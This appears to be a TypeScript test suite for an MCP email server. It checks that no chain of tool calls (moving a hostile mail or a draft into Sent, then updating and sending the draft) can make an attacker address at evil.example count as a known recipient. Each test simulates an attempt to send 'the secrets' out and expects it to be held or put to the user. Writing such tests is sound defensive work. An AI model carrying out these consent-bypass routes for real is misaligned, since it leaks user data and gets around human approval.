// Consent the model cannot manufacture (issue 41, item 1): under "new_recipients" an address is known
// from \Sent only when a message addressed to it was there before the grant was made (the mark the
// connect's login takes, src/sent-mark.ts). Every route by which a tool of this server can put a
// message in \Sent — moving a hostile mail there, moving a draft there, saving a draft into it and
// updating it — is followed by a send to the stranger, which is still held (this client cannot be
// asked) and which a dry run says would ask. An address in \Sent from before the connect is known.
import { describe, expect, test } from "bun:test";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { ElicitRequestSchema, type ElicitRequest } from "@modelcontextprotocol/sdk/types.js";
import { randomBytes } from "node:crypto";
import { verifyLogin } from "../../../src/mail/imap/verify.ts";
import { findBySubject } from "../../support/imap.ts";
import { plainText } from "../../support/mail-fixtures.ts";
import { call, callOk, connectClient } from "../../support/mcp-client.ts";
import { issueTestGrant } from "../../support/token.ts";
import { aliceServer } from "../../support/alice-server.ts";

const fx = aliceServer();
const tag = () => randomBytes(4).toString("hex");

/** A "new_recipients" grant whose \Sent mark is taken by the connect's own login, as the setup form does. */
async function markedToken(): Promise<string> {
  const account = fx.account();
  const proof = await verifyLogin(account);
  if (!proof) throw new Error("verifyLogin returned no proof");
  const { token, grantId } = await issueTestGrant(fx.srv.deps, account, "email:read email:write", undefined, "new_recipients");
  await fx.srv.deps.store.sentMarks.keepFirst(grantId, proof.sentMark);
  return token;
}

async function connectedClient(): Promise<Client> {
  const client = await connectClient(fx.srv.mcpUrl, await markedToken());
  fx.open.push(client);
  return client;
}

const delivered = (subject: string) => fx.h.smtp.messages.filter((m) => m.raw.toString("latin1").includes(subject));

/** The send to `to` is held as a draft, nothing goes out, and a dry run says the person would be asked. */
async function expectStillAsks(client: Client, to: string): Promise<void> {
  const dry = await call(client, "send_email", { to, subject: `dry ${tag()}`, text: "x", dry_run: true });
  expect(dry.structuredContent).toMatchObject({ status: "dry_run", preview: { would_ask: true, new_recipients: [to] } });
  const subject = `exfil ${tag()}`;
  const res = await call(client, "send_email", { to, subject, text: "the secrets" });
  expect(res.structuredContent).toMatchObject({ status: "held_as_draft" });
  expect(delivered(subject)).toHaveLength(0);
}

async function uidOf(folder: string, subject: string): Promise<number> {
  const [m] = await findBySubject(fx.imap, folder, subject);
  if (!m) throw new Error(`${subject} not in ${folder}`);
  return m.uid;
}

describe("new_recipients: no tool sequence makes a stranger known", () => {
  test("an address in Sent from before the connect is known: sent without a question", async () => {
    const known = `before-${tag()}@example.net`;
    await fx.h.dovecot.deliver("alice", plainText({ from: fx.h.dovecot.users.alice.email, to: known, subject: `earlier ${tag()}` }), "Sent", ["\\Seen"]);
    const client = await connectedClient();
    const subject = `known ${tag()}`;
    const res = await call(client, "send_email", { to: known, subject, text: "again" });
    expect(res.structuredContent).toMatchObject({ status: "sent", decision: "sent_directly" });
    expect(delivered(subject)).toHaveLength(1);
  });

  test("a hostile mail To: the attacker, moved into Sent: the send still asks", async () => {
    const client = await connectedClient();
    const attacker = `attacker-${tag()}@evil.example`;
    const subject = `please file ${tag()}`;
    await fx.h.dovecot.deliver("alice", plainText({ from: attacker, to: attacker, subject }));
    const moved = await callOk(client, "move_email", { folder: "INBOX", uids: [await uidOf("INBOX", subject)], destination: "Sent" });
    expect(moved.moved).toHaveLength(1);
    await expectStillAsks(client, attacker);
  });

  test("a draft To: the attacker, moved from Drafts into Sent: the send still asks", async () => {
    const client = await connectedClient();
    const attacker = `attacker-${tag()}@evil.example`;
    const draft = await callOk(client, "draft_email", { to: attacker, subject: `draft ${tag()}`, text: "x" });
    await callOk(client, "move_email", { folder: draft.folder, uids: [draft.uid], destination: "Sent" });
    await expectStillAsks(client, attacker);
  });

  test("a draft in Sent, updated and sent with update_draft / send_draft: still asks", async () => {
    const client = await connectedClient();
    const attacker = `attacker-${tag()}@evil.example`;
    const draft = await callOk(client, "draft_email", { to: attacker, subject: `draft ${tag()}`, text: "x" });
    const moved = await callOk(client, "move_email", { folder: draft.folder, uids: [draft.uid], destination: "Sent" });
    const updated = await callOk(client, "update_draft", { folder: "Sent", uid: moved.moved[0].new_uid, text: "y" });
    const subject = `via send_draft ${tag()}`;
    const again = await callOk(client, "update_draft", { folder: updated.folder, uid: updated.uid, subject });
    const res = await call(client, "send_draft", { folder: again.folder, uid: again.uid });
    expect(res.structuredContent).toMatchObject({ status: "held_as_draft" });
    expect(delivered(subject)).toHaveLength(0);
    await expectStillAsks(client, attacker);
  });

  test("an elicitation-capable client, after the move route: the person is asked; declining sends nothing", async () => {
    const asked: Array<ElicitRequest["params"]> = [];
    const client = new Client({ name: "elicit", version: "0" }, { capabilities: { elicitation: {} } });
    client.setRequestHandler(ElicitRequestSchema, async (req) => (asked.push(req.params), { action: "decline" }));
    await client.connect(new StreamableHTTPClientTransport(new URL(fx.srv.mcpUrl), { requestInit: { headers: { Authorization: `Bearer ${await markedToken()}` } } }));
    fx.open.push(client);
    const attacker = `attacker-${tag()}@evil.example`;
    const filed = `please file ${tag()}`;
    await fx.h.dovecot.deliver("alice", plainText({ from: attacker, to: attacker, subject: filed }));
    await callOk(client, "move_email", { folder: "INBOX", uids: [await uidOf("INBOX", filed)], destination: "Sent" });
    const subject = `exfil ${tag()}`;
    const res = await call(client, "send_email", { to: attacker, subject, text: "the secrets" });
    expect(asked).toHaveLength(1);
    expect(JSON.stringify(asked[0])).toContain(attacker);
    expect(res.structuredContent).not.toMatchObject({ status: "sent" });
    expect(delivered(subject)).toHaveLength(0);
  });
});
